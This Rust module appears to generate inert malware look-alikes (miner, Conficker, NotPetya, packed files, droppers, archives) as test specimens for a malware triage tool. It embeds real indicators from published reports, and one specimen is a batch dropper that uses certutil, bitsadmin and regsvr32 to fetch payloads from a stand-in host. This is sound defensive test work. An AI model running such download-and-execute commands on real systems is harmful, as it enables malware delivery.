//! Look-alikes of what else comes in over SMB: miners, other worms, packed files, droppers, archives, noise.
//!
//! Names, addresses of the dead and marker strings are those of published reports; all else is filler.

use super::filler::Filler;
use super::ledger::Specimen;
use super::pe::{ALIGN, Export, HEADERS_LEN, Image, Imports, Machine, Resource, ResourceName};
use super::zip::{Member, archive};
use super::{Layout, X64, X86, base64_like, behind_stub, metasploit, raw, u32_of};
use flate2::Compression;
use flate2::write::GzEncoder;
use roridula_triage::Kind;
use roridula_triage::facts::IndicatorKind;
use std::io::Write as _;

/// What comes in most besides the worm.
const NETWORK: Imports = &[
    ("KERNEL32.dll", &["CreateThread", "Sleep", "CreateMutexA", "GetModuleFileNameA"]),
    ("WS2_32.dll", &["WSAStartup", "connect", "send", "recv"]),
];

/// A DLL of `len` bytes (a multiple of 512), its sections up to its end.
struct Dll {
    machine: Machine,
    len: usize,
    seed: u64,
    export: Export,
    imports: Imports,
    sections: [&'static str; 3],
}

impl Dll {
    fn new(layout: &Layout, len: usize, seed: u64, export: Export) -> Self {
        let sections = [".text", ".rdata", ".data"];
        Self { machine: layout.machine, len, seed, export, imports: NETWORK, sections }
    }

    fn build(&self, data: &[u8]) -> Vec<u8> {
        let mut image = Image {
            machine: self.machine,
            dll: true,
            timestamp: 0x5a00_0000,
            sections: self.sections,
            code_len: 0,
            code_seed: self.seed,
            imports: self.imports,
            export: Some(self.export),
            data,
            question: None,
            resources: Vec::new(),
        };
        image.code_len = self.len - image.end_without_code();
        image.build(self.len)
    }
}

/// A DLL without anything to it.
pub fn plain_dll(len: usize, seed: u64) -> Vec<u8> {
    Dll::new(&X86, len, seed, Export { library: "inert.dll", function: "Nothing" })
        .build(b"INERT LOOK-ALIKE\0")
}

/// A miner as repackaged senders deliver it: some 80 KB.
pub fn miner(seed: u64) -> Specimen {
    // 95 characters that look like a Monero address and have no valid checksum.
    let mut address = vec![0; 93];
    Filler::new(seed).letters(&mut address);
    address
        .iter_mut()
        .filter(|byte| matches!(byte, b'+' | b'/' | b'0' | b'O' | b'I' | b'l'))
        .for_each(|byte| *byte = b'x');
    let mut data =
        b"xmrig.exe\0stratum+tcp://pool.example.invalid:3333\0--donate-level=1\0--cpu-priority 5\0\
        -k -o stratum+tcp://pool.example.invalid:45560 -u 4A"
            .to_vec();
    data.extend_from_slice(&address);
    data.extend_from_slice(b" -p x\0randomx\0cryptonight\0INERT LOOK-ALIKE\0");
    let export = Export { library: "crypt.dll", function: "Start" };
    let dll = Dll::new(&X64, 81_408, seed, export).build(&data);
    in_stub("miner-x64", "miner DLL", &X64, &dll)
        .words(&["x64", "81,408"])
        .indicators(IndicatorKind::Url, &["stratum+tcp://pool.example.invalid"])
}

/// Conficker-like: the strings of SRI's "An Analysis of Conficker" (2009).
pub fn conficker(seed: u64) -> Specimen {
    let data = b"http://trafficconverter.biz/4vir/antispyware/loadadv.exe\0\
        http://www.maxmind.com/download/geoip/database/GeoIP.dat.gz\0http://www.getmyip.org\0\
        http://checkip.dyndns.org\0Global\\%u-%u\0netsvcs\0ServiceDll\0%SystemRoot%\\system32\\svchost.exe -k netsvcs\0\
        RECYCLER\\S-%d-%d-%d-%d%d%d-%d%d%d-%d%d%d-%d\0rundll32.exe \"%s\",%S\0INERT LOOK-ALIKE\0";
    let export = Export { library: "inert-c.dll", function: "Nothing" };
    let mut dll = Dll::new(&X86, 0x2_6000, seed, export);
    dll.imports = &[
        ("KERNEL32.dll", &["CreateMutexA", "GetTickCount", "LoadLibraryA", "VirtualProtect"]),
        ("ADVAPI32.dll", &["CreateServiceA", "RegSetValueExA"]),
        ("NETAPI32.dll", &["NetServerEnum", "NetApiBufferFree"]),
    ];
    let dll = dll.build(data);
    Specimen::new("conficker-x86", "Conficker-like DLL", Kind::Pe, dll)
        .family("Conficker")
        .core(0)
        .indicators(IndicatorKind::Url, &["trafficconverter.biz/4vir/antispyware/loadadv.exe", "getmyip.org"])
}

/// NotPetya-like: the strings of ESET's and Microsoft's reports of June 2017.
pub fn notpetya(seed: u64) -> Specimen {
    let data =
        b"perfc.dat\0C:\\Windows\\perfc\0wowsmith123456@posteo.net\x001Mz7153HMuxXTuR2R1t78mGSdzaAtNbBWX\0\
        Ooops, your important files are encrypted.\0\\\\.\\PhysicalDrive0\0\
        schtasks %ws/Create /SC once /TN \"\" /TR \"%ws\" /ST %02d:%02d\0shutdown.exe /r /f\0\
        wevtutil cl Setup & wevtutil cl System\0\\\\%ws\\admin$\\%ws\0INERT LOOK-ALIKE\0";
    let export = Export { library: "perfc.dat", function: "perfc_1" };
    let mut dll = Dll::new(&X86, 0x5_8600, seed, export);
    dll.imports = &[
        ("KERNEL32.dll", &["DeviceIoControl", "CreateFileW", "GetTickCount", "CreateNamedPipeW"]),
        ("ADVAPI32.dll", &["InitiateSystemShutdownExW", "AdjustTokenPrivileges"]),
        ("CRYPT32.dll", &["CryptStringToBinaryW", "CryptDecodeObjectEx"]),
        ("DHCPSAPI.dll", &["DhcpEnumSubnets"]),
    ];
    let dll = dll.build(data);
    in_stub("notpetya-x86", "NotPetya-like DLL", &X86, &dll)
        .family("NotPetya")
        .words(&["NotPetya"])
        .indicators(IndicatorKind::Email, &["wowsmith123456@posteo.net"])
        .indicators(IndicatorKind::Wallet, &["1Mz7153HMuxXTuR2R1t78mGSdzaAtNbBWX"])
}

/// A file with the section names and the marker of UPX.
fn upx(seed: u64) -> Specimen {
    let export = Export { library: "inert.dll", function: "Nothing" };
    let mut dll = Dll::new(&X86, 0x1_0000, seed, export);
    dll.sections = ["UPX0", "UPX1", "UPX2"];
    let mut bytes = dll.build(b"INERT LOOK-ALIKE\0");
    // The packer's header stands in the gap in front of the first section: version, marker.
    bytes[HEADERS_LEN - 0x20..HEADERS_LEN - 0x17].copy_from_slice(b"3.96\0UPX!");
    in_stub("upx-x86", "UPX-named DLL", &X86, &bytes)
}

fn in_stub(file: &str, what: &str, layout: &Layout, dll: &[u8]) -> Specimen {
    let payload = behind_stub(layout, dll);
    let stub = payload[..layout.stub_len].to_vec();
    Specimen::new(file, what, Kind::Payload, payload)
        .part(0, Kind::Stub, 0, &stub, "")
        .part(0, Kind::Pe, layout.stub_len, dll, "")
        .core(2)
}

/// Metasploit's one packet.
pub fn metasploit_packet(seed: u64) -> Specimen {
    let packet = metasploit(seed);
    let code_len = usize::from(u16::from_le_bytes([packet[780], packet[781]]));
    let (stub, code) = (packet[..780].to_vec(), packet[782..782 + code_len].to_vec());
    Specimen::new("metasploit-packet", "Metasploit's single packet", Kind::Payload, packet)
        .part(0, Kind::Stub, 0, &stub, "")
        .part(0, Kind::Shellcode, 782, &code, "")
        .core(2)
        .words(&["Metasploit"])
}

/// Code that came as an upload by itself: it reads where its process's block is, mixes a number, and returns.
fn bare_code() -> Specimen {
    let mut code = vec![0x90; 64];
    // mov eax, fs:[30h]; xor edi, edi; mov ecx, 4; ror edi, 13; add edi, eax; dec ecx; jnz; inc edi; ret
    code.extend([0x64, 0xa1, 0x30, 0, 0, 0, 0x31, 0xff, 0xb9, 4, 0, 0, 0]);
    code.extend([0xc1, 0xcf, 13, 0x01, 0xc7, 0x49, 0x75, 0xf8, 0x47, 0xc3]);
    code.extend(b"INERT LOOK-ALIKE\0");
    Specimen::new("bare-code", "code without a file", Kind::Shellcode, code)
        .words(&["x86 shellcode (104 bytes)", "starts at its byte 64"])
}

/// A script as a dropper would leave it.
fn shell_text() -> Specimen {
    let text = b"@echo off\r\nrem INERT LOOK-ALIKE by roridula-lab\r\n\
        certutil -urlcache -split -f http://dropper.example.invalid/a.exe %TEMP%\\a.exe\r\n\
        bitsadmin /transfer a http://dropper.example.invalid/b.exe %TEMP%\\b.exe\r\n\
        regsvr32 /s /n /u /i:http://dropper.example.invalid/c.sct scrobj.dll\r\n"
        .to_vec();
    Specimen::new("shell-dropper", "text that downloads", Kind::Text, text)
}

/// A PE file with an archive behind its end, as self-extracting archives have it.
fn self_extracting(file: &str, kind: Kind, archive: &[u8], seed: u64) -> Specimen {
    let program = plain_dll(0x4000, seed);
    let mut bytes = program.clone();
    bytes.extend_from_slice(archive);
    Specimen::new(file, "a self-extracting archive", Kind::Pe, bytes).part(
        0,
        kind,
        program.len(),
        archive,
        "",
    )
}

/// A cabinet of one stored file, by Microsoft's [MS-CAB]. At most 32 KiB: one block.
fn cabinet(bytes: &[u8]) -> Vec<u8> {
    const NAME: &[u8] = b"inert.dll\0";
    let (files_at, data_at) = (44, 44 + 16 + NAME.len());
    let len = data_at + 8 + bytes.len();
    let mut file = Vec::new();
    let words = |file: &mut Vec<u8>, words: &[usize]| {
        words.iter().for_each(|word| file.extend_from_slice(&u32_of(*word).to_le_bytes()));
    };
    file.extend_from_slice(b"MSCF");
    words(&mut file, &[0, len, 0, files_at, 0]);
    // Version 1.3, one folder, one file, no flags, no set.
    file.extend_from_slice(&[3, 1, 1, 0, 1, 0, 0, 0, 0, 0, 0, 0]);
    words(&mut file, &[data_at]);
    file.extend_from_slice(&[1, 0, 0, 0]);
    words(&mut file, &[bytes.len(), 0]);
    // Folder 0; 2017-05-12 12:00; an archive's attribute.
    file.extend_from_slice(&[0, 0, 0xac, 0x4a, 0, 0x60, 0x20, 0]);
    file.extend_from_slice(NAME);
    // No checksum, and as many bytes as unpacked.
    words(&mut file, &[0, bytes.len() << 16 | bytes.len()]);
    file.extend_from_slice(bytes);
    file
}

/// A gzip stream.
pub fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).and_then(|()| encoder.finish()).expect("writing to memory cannot fail")
}

/// A PE in a ZIP in a gzip stream.
fn nested(seed: u64) -> Specimen {
    let inner = plain_dll(0x3000, seed);
    let (zip, places) = archive(&[Member::new("inert.dll", &inner, true)], None);
    let gzip = gzip(&zip);
    // A header of 10 bytes, checksum and length behind.
    let len = gzip.len();
    let place = (places[0].at, places[0].len);
    Specimen::new("gzip-of-zip-of-dll", "archives in each other", Kind::Gzip, gzip)
        .decoded(0, Kind::Zip, (10, len - 18), &zip, ("deflate", ""))
        .decoded(1, Kind::Pe, place, &inner, ("deflate", "inert.dll"))
}

/// A PE with another one as raw data among its resources.
fn carrier(seed: u64) -> Specimen {
    let inner = plain_dll(0x3000, seed);
    let image = Image {
        code_len: 4 * ALIGN,
        code_seed: seed,
        resources: vec![Resource::new(ResourceName::Id(10), 7, &inner).at(0x2000)],
        ..Image::default()
    };
    Specimen::new("carrier", "a program with a DLL in its resources", Kind::Pe, image.build(0x8000)).part(
        0,
        Kind::Pe,
        0x2000,
        &inner,
        "",
    )
}

/// One of each.
pub fn specimens(seed: u64) -> Vec<Specimen> {
    let (zip, _) =
        archive(&[Member::new("readme.txt", b"INERT LOOK-ALIKE, nothing to be read", false)], None);
    let noise = raw(20_000, seed)[super::MARKER.len()..].to_vec();
    vec![
        miner(seed),
        conficker(seed),
        notpetya(seed),
        upx(seed),
        metasploit_packet(seed),
        shell_text(),
        bare_code(),
        self_extracting("sfx-zip", Kind::Zip, &zip, seed),
        self_extracting("sfx-cab", Kind::Cab, &cabinet(&base64_like(5000, seed)), seed),
        nested(seed),
        carrier(seed),
        // Whether filler is called text or data is no promise.
        Specimen::new("noise", "noise", Kind::Data, noise).hostile(),
        Specimen::new("empty", "nothing at all", Kind::Data, Vec::new()).hostile(),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::{Cursor, Read as _};

    #[test]
    fn another_reader_opens_the_cabinet() {
        let content = base64_like(5000, 1);
        let mut cabinet = cab::Cabinet::new(Cursor::new(cabinet(&content))).unwrap();
        let mut bytes = Vec::new();
        cabinet.read_file("inert.dll").unwrap().read_to_end(&mut bytes).unwrap();
        assert!(bytes == content);
    }

    #[test]
    fn every_library_says_that_it_is_inert() {
        for specimen in [miner(1), conficker(1), notpetya(1), upx(1)] {
            let text = String::from_utf8_lossy(&specimen.bytes).into_owned();
            assert!(text.contains("INERT LOOK-ALIKE by roridula-lab"), "{}", specimen.entry.file);
        }
    }
}
